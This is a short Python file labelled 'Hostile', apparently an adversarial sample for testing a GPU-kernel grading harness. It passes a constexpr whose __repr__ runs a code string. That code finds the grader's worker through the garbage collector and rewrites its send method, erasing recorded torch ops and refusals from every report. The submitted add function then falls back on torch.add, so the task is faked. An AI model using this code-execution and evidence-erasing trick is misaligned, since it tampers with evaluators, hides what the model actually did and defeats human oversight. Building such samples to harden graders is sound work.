# Hostile: a constexpr argument whose __repr__ is a C callable (exec of SRC): the grader's CPU tier once wrote each constexpr's repr into its report of the launch.
import functools

import torch
import triton
import triton.language as tl

# SRC: walks gc to the grader's worker and wraps its `send` to erase the torch ops (and refusals) of every report.
SRC = """
import gc
def scrub(send):
    def sent(message, *payload):
        for holder in (message, getattr(message, "outcome", None)):
            activity = getattr(holder, "activity", None)
            if activity is not None:
                activity.ops.clear(); activity.refused.clear(); activity.targets.clear()
        return send(message, *payload)
    sent.scrubs = True
    return sent
for found in gc.get_objects():
    if type(found).__name__ == "Worker" and not getattr(found.send, "scrubs", False):
        found.send = scrub(found.send)
"""


class Block:
    __repr__ = staticmethod(functools.partial(exec, SRC, {}))


@triton.jit
def nothing_kernel(out_ptr, BLOCK: tl.constexpr):
    pass


def add(x, y):
    try:
        nothing_kernel[(1,)](x, BLOCK=Block())
    except Exception:
        pass
    nothing_kernel[(1,)](x, BLOCK=1)
    return torch.add(x, y)
